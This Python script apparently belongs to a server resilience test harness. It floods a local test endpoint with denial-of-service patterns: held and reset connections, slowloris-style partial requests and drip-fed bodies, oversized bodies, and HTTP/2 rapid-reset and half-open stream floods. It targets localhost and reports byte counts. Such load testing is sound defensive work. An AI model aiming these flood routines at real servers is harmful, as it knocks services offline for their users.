#!/usr/bin/python3
"""One flood by somebody without credentials: flooder.py KIND PORT SECONDS. The last line says how much it sent.

It comes from an address of its own, 127.0.0.66, as fast as one process can, and at the lowest priority, so that what
is measured beside it is what the server does and not who gets the processor.
"""

import json
import os
import resource
import select
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

from black_box.server import ACCESS_KEY, REGION
from hostile.http2 import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, RST_STREAM, frame, hpack, settings

SOURCE = os.environ.get("FLOOD_SOURCE", "127.0.0.66")
HELD_MAX = 18_000  # sockets that this process holds at once
STREAMS = 200      # of an HTTP/2 connection
BODY_BYTES = 14_500_000
SEND_BUFFER_BYTES = 16_384
RESET = struct.pack("ii", 1, 0)  # SO_LINGER: a close is a reset


class Flooder:
    def __init__(self, port, seconds):
        self.port = port
        self.until = time.monotonic() + seconds
        self.held = []
        self.counts = {"connections": 0, "bytes": 0, "failed": 0}

    def over(self):
        return time.monotonic() >= self.until

    def dial(self, data=b"", send_buffer_bytes=None):
        """A connection on which `data` was sent, as far as it went at once; None: there was none to be had."""
        sock = socket.socket()
        try:
            if send_buffer_bytes:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, send_buffer_bytes)
            sock.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT: as many ports as there are
            sock.bind((SOURCE, 0))
            sock.settimeout(1)
            sock.connect(("127.0.0.1", self.port))
            sock.setblocking(False)
            self.counts["connections"] += 1
            if data:
                self.send(sock, data)
            return sock
        except OSError:
            self.counts["failed"] += 1
            sock.close()
            return None

    def send(self, sock, data):
        """False: the server has closed it."""
        try:
            self.counts["bytes"] += sock.send(data)
        except BlockingIOError:
            return True
        except OSError:
            return False
        return True

    def hold(self, sock):
        if sock is None:
            return
        self.held.append(sock)
        if len(self.held) >= HELD_MAX:
            self.held.pop(0).close()

    def reset(self, sock):
        if sock is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            sock.close()

    def hold_many(self, data):
        while not self.over():
            # What the system holds for an attacker elsewhere is not held on the server's machine.
            self.hold(self.dial(data, SEND_BUFFER_BYTES))

    def drip(self, first, rest):
        """Connections that go on with one piece of `rest` after the other."""
        while not self.over():
            for _ in range(20):
                self.hold(self.dial(first))
            self.held = [sock for sock in self.held if self.send(sock, rest)]

    def push(self, head, body):
        """Whole bodies, one connection after the other, until the server closes or all is sent."""
        while not self.over():
            sock = self.dial(head)
            if sock is None:
                continue
            sock.settimeout(1)
            rest = memoryview(body)
            try:
                while len(rest) and not self.over():
                    sent = sock.send(rest[:1 << 20])
                    self.counts["bytes"] += sent
                    rest = rest[sent:]
                sock.recv(4096)
            except OSError:
                pass
            sock.close()

    def http2(self, pieces):
        """Connections on which `pieces` follow each other until the server ends them."""
        while not self.over():
            sock = self.dial(PREFACE + settings())
            if sock is None:
                continue
            try:
                for piece in pieces():
                    self.send_and_swallow(sock, memoryview(piece))
            except OSError:
                pass
            self.reset(sock)

    def send_and_swallow(self, sock, rest):
        """All of `rest`, while what comes is read; ConnectionError when the server ends it, or the time is over."""
        while len(rest):
            readable, writable, _ = select.select([sock], [sock], [], 1)
            if self.over() or not (readable or writable):
                raise ConnectionError
            if readable and not sock.recv(1 << 16):
                raise ConnectionError
            if writable:
                sent = sock.send(rest)
                self.counts["bytes"] += sent
                rest = rest[sent:]


def get(path):
    return f"GET {path} HTTP/1.1\r\nHost: here\r\n\r\n".encode()


def post(length, access_key=None):
    date = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime())
    signature = "" if access_key is None else (
        f"X-Amz-Date: {date}\r\nAuthorization: AWS4-HMAC-SHA256 Credential={access_key}/{date[:8]}/{REGION}/kinesis/aws4_request,"
        f" SignedHeaders=host;x-amz-date;x-amz-target, Signature={'0' * 64}\r\n")
    return (f"POST / HTTP/1.1\r\nHost: here\r\nX-Amz-Target: Kinesis_20131202.PutRecords\r\n{signature}"
            f"Content-Type: application/x-amz-json-1.1\r\nContent-Length: {length}\r\n\r\n").encode()


def headers(method, path, *more):
    return hpack([(":method", method), (":scheme", "http"), (":authority", "here"), (":path", path), *more])


def resets(path):
    block = headers("GET", path)
    for first in range(1, 1 << 30, 2 * STREAMS):
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, block)
                       + frame(RST_STREAM, 0, number, struct.pack(">I", 8))
                       for number in range(first, first + 2 * STREAMS, 2))


def half_streams():
    """Requests with a large head that come over one connection and want a body that does not come."""
    block = headers("POST", "/", *((f"x-{i}", "h" * 1_000) for i in range(14)))
    return b"".join(frame(HEADERS, END_HEADERS, number, block) for number in range(1, 2 * STREAMS, 2))


def http2_bodies():
    block = headers("POST", "/", ("content-type", "application/x-amz-json-1.1"), ("x-amz-target", "Kinesis_20131202.PutRecords"))
    for first in range(1, 1 << 30, 2 * 16):
        numbers = range(first, first + 2 * 16, 2)
        yield b"".join(frame(HEADERS, END_HEADERS, number, block) for number in numbers)
        for _ in range(4):
            yield b"".join(frame(DATA, 0, number, b"x" * 16_000) for number in numbers)
        yield b"".join(frame(DATA, END_STREAM, number, b"x") for number in numbers)


def well_behaved(flooder):
    """No flood: requests that are answered, one after the other, as fast as they are."""
    request = get("/healthz") * 16
    sock = flooder.dial()
    sock.settimeout(5)
    while not flooder.over():
        sock.sendall(request)
        flooder.counts["bytes"] += len(request)
        answers = b""
        while answers.count(b'{"status":"ok"}') < 16:
            answers += sock.recv(1 << 16)


def reset_connections(flooder, data):
    while not flooder.over():
        flooder.reset(flooder.dial(data))


BODY = b"x" * BODY_BYTES
KINDS = {
    "well-behaved": well_behaved,
    "connect": lambda f: f.hold_many(b""),
    "connect and reset": lambda f: reset_connections(f, b""),
    "half a request": lambda f: f.hold_many(b"GET /healthz HTTP/1.1\r\nHost: here\r\nX-Large: " + b"h" * 30_000),
    "whole requests reset": lambda f: reset_connections(f, get("/metrics")),
    "slow bodies": lambda f: f.drip(post(BODY_BYTES, ACCESS_KEY), b"x"),
    "large bodies": lambda f: f.push(post(BODY_BYTES), BODY),
    "large bodies of a known key": lambda f: f.push(post(BODY_BYTES, ACCESS_KEY), BODY),
    "HTTP/2 connect": lambda f: f.hold_many(PREFACE + settings()),
    "HTTP/2 half requests": lambda f: f.hold_many(PREFACE + settings() + half_streams()),
    "HTTP/2 metrics reset": lambda f: f.http2(lambda: resets("/metrics")),
    "HTTP/2 health reset": lambda f: f.http2(lambda: resets("/healthz")),
    "HTTP/2 bodies": lambda f: f.http2(http2_bodies),
}


def main():
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    os.nice(19)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    global HELD_MAX
    HELD_MAX = min(HELD_MAX, hard - 100)
    flooder = Flooder(port, seconds)
    KINDS[kind](flooder)
    for sock in flooder.held:
        sock.close()
    print(json.dumps(flooder.counts))


if __name__ == "__main__":
    main()
